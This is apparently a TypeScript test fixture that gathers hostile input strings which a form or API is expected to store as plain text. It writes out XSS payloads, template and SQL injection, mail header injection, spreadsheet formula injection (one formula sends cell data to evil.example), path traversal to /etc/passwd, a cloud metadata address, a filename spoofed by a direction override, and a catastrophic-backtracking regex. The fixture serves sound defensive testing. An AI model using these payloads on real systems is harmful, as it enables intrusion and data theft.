// Hostile input by what it tries. All of it except `unstorable` must be handled like ordinary text.
const payload = 'globalThis.hostile=1';

export const markup = {
  script: `<script>${payload}</script>`,
  'end of a data block': `</script><script>${payload}</script>`,
  'end of a text area': `</textarea></title></style><img src=x onerror=${payload}>`,
  'broken picture': `<img src=x onerror="${payload}">`,
  drawing: `<svg onload=${payload}><animate onbegin=${payload} attributeName=x dur=1s>`,
  'frame with its own document': `<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>`,
  'script address': `javascript:${payload}//`,
  'data address': `data:text/html,<script>${payload}</script>`,
  entities: '&lt;b&gt; &amp;amp; &#60;script&#62;',
};

export const templates = {
  'curly braces': '{{constructor.constructor("hostile=1")()}}',
  'template string': '${globalThis.hostile=1} `${7*7}` #{7*7} <%= 7*7 %>',
  'replacement pattern': "$& $1 $` $' $$ \\1 %s %n %x {0}",
  'quoted SQL': '\'; drop table contact_submissions; -- " ) or 1=1 /* */',
  'head of a mail': 'a\r\nBcc: everybody@example.com\r\n\r\nText',
};

export const formulas = {
  sum: '=1+1+cmd|\' /C calc\'!A0 ("x")',
  minus: '-1+1+1+1+1+1',
  link: '=HYPERLINK("http://evil.example?"&A1,"open me")',
  'behind a tab': '\t=1+1+1+1+1+1',
  'full width': '＝1+1+1+1+1+1',
};

export const names = {
  prototype: '__proto__ constructor',
  number: '1e309 -0 0x10 9007199254740993',
  path: '../../../../etc/passwd%00.pdf',
  address: 'http://169.254.169.254/latest/meta-data',
};

export const letters = {
  'right to left': 'שלום עולם مرحبا بالعالم',
  'override of direction': '\u202egnp.exe\u202c \u2066isolated\u2069 \u202elast',
  'two hundred accents': `a${'\u0301\u0327'.repeat(100)} and some`,
  'towering letters': 'Ź̸̡̢̛̗̘̙̜̝̞̟̠̣̤̥̦̩̪̫̬̭̮̯̰̱̲̳̹̺̻̼͇͈͉͍͎̂̃̄̅̆̇̈̉̊ and more',
  'joined picture': '👨‍👩‍👧‍👦🏴‍☠️👩🏽‍🚀 and some more',
  'without width': 'a\u200b\u200c\u200d\u2060\ufeffb and some',
  'without ink': '\u3164\u2800\u115f\u1160\u3164\u2800\u3164\u2800\u3164\u2800\u3164',
  'other spaces': '\u00a0a\u2003b\u2028c\u2029d\u3000e and more\u00a0',
  'beyond the first plane': '𝕳𝖔𝖘𝖙𝖎𝖑𝖊 𐐀𐐨 🇳🇬🇬🇭 and more',
  'letters that grow': 'İıßẞŉǰΐΰ ﬀﬃ ΟΔΥΣΣΕΥΣ',
};

/** Too long for some fields, which reject it; elsewhere it must fit within the page. */
export const long = {
  'two hundred letters': 'm'.repeat(200),
  'five thousand letters': 'w'.repeat(5000),
  'ten thousand letters': 'w'.repeat(10_000),
  'a megabyte': 'lorem ipsum '.repeat(87_382),
};

const filters = {
  wildcards: '%_*?\\ %% __ ** \\\\',
  'like pattern': '*.*,id.neq.0',
  'or group': ',or(id.not.is.null),and(',
  operators: 'eq.1 is.null in.(1,2) fts.x not.eq.x',
  'regular expression': '***= (a+)+$ [[:alpha:] (?=x',
  'endless match': `${'(a*)*'.repeat(10)}!`,
};

/** Not storable in a database: forms strip these characters, and the API rejects them. */
export const unstorable = {
  NUL: 'before\0after and more',
  'half a pair': 'high \ud83d alone and low \ude00 alone',
};

export const storableTexts: readonly (readonly [kind: string, text: string])[] = [
  markup,
  templates,
  formulas,
  names,
  letters,
  long,
  filters,
].flatMap((group) => Object.entries(group));

export const hostileTexts = [...storableTexts, ...Object.entries(unstorable)];
